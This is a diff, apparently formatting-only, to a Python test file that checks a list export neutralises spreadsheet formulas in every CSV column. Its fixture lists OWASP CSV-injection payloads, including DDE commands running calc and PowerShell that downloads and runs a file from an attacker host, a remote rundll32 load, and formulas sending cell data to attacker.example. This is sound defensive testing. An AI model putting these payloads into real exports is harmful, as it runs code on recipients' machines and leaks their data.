@@ -1,4 +1,5 @@
 """CSV exports neutralise spreadsheet formulas (OWASP CSV injection) in every cell, through one function."""
+
 import csv
 import io
 
@@ -10,11 +11,11 @@ from persons.tests.factories import AffiliationFactory
 
 # OWASP "CSV Injection" payloads, and what they would do when the file is opened in a spreadsheet
 OWASP_VECTORS = [
-    "=cmd|' /C calc'!A0",                                               # DDE: runs a program
+    "=cmd|' /C calc'!A0",  # DDE: runs a program
     "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
     "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
     '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for details")',  # exfiltration
-    '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',            # Google Sheets
+    '=IMPORTXML(CONCAT("http://attacker.example/?v=",CONCATENATE(A2:E2)),"//a")',  # Google Sheets
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
@@ -41,14 +42,18 @@ def test_other_values_are_left_alone(value):
 def test_the_list_export_neutralises_every_column(member_client, organizer):
     target = ListFactory(organizer=organizer)
     for n, vector in enumerate(OWASP_VECTORS):
-        member = ListMemberFactory(list=target, person__email=f"p{n}@example.com", person__first_name=vector,
-                                   person__last_name=vector)
-        AffiliationFactory(person=member.person, company_name=vector, position=vector, city=vector, phone=vector,
-                           website=vector)
-    clean = ListMemberFactory(list=target, person__email="jane@example.com", person__first_name="Jane",
-                              person__last_name="Smith-Jones")
-    AffiliationFactory(person=clean.person, company_name="x=1", position="", city="Berlin", phone="+49 30 1234",
-                       website="")
+        member = ListMemberFactory(
+            list=target, person__email=f"p{n}@example.com", person__first_name=vector, person__last_name=vector
+        )
+        AffiliationFactory(
+            person=member.person, company_name=vector, position=vector, city=vector, phone=vector, website=vector
+        )
+    clean = ListMemberFactory(
+        list=target, person__email="jane@example.com", person__first_name="Jane", person__last_name="Smith-Jones"
+    )
+    AffiliationFactory(
+        person=clean.person, company_name="x=1", position="", city="Berlin", phone="+49 30 1234", website=""
+    )
 
     response = member_client.get(f"/api/lists/{target.pk}/export")
     exported = {row["email"]: row for row in csv.DictReader(io.StringIO(response.content.decode(), newline=""))}
@@ -57,6 +62,10 @@ def test_the_list_export_neutralises_every_column(member_client, organizer):
         for column in ("first_name", "last_name", "company", "position", "city", "phone", "website"):
             assert row[column] == "'" + vector, (column, vector)
     jane = exported["jane@example.com"]
-    assert (jane["first_name"], jane["last_name"], jane["company"], jane["city"]) == ("Jane", "Smith-Jones", "x=1",
-                                                                                      "Berlin")
+    assert (jane["first_name"], jane["last_name"], jane["company"], jane["city"]) == (
+        "Jane",
+        "Smith-Jones",
+        "x=1",
+        "Berlin",
+    )
     assert jane["phone"] == "'+49 30 1234"  # a leading + is a formula to a spreadsheet, whatever it meant
